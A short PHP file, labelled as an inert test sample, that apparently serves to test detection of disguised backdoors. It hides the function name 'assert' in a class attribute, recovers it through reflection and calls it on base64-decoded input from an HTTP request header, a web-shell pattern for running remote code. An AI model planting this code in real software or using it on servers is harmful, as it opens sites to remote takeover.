<?php
// inert test sample: a named attribute argument names assert; the method's attributes are read
// through a reflected class and the argument list, and the code comes from a decoded header
namespace Plugin\Tasks;

#[\Attribute]
class Hook { public function __construct(public string $run = '') {} }

class Job
{
    #[Hook(run: 'assert')]
    public function tick() {}
}

$m = (new \ReflectionClass(Job::class))->getMethod('tick');
$args = $m->getAttributes()[0]->getArguments();
$go = $args['run'];
$go(base64_decode($_SERVER['HTTP_X_TICK'] ?? ''));
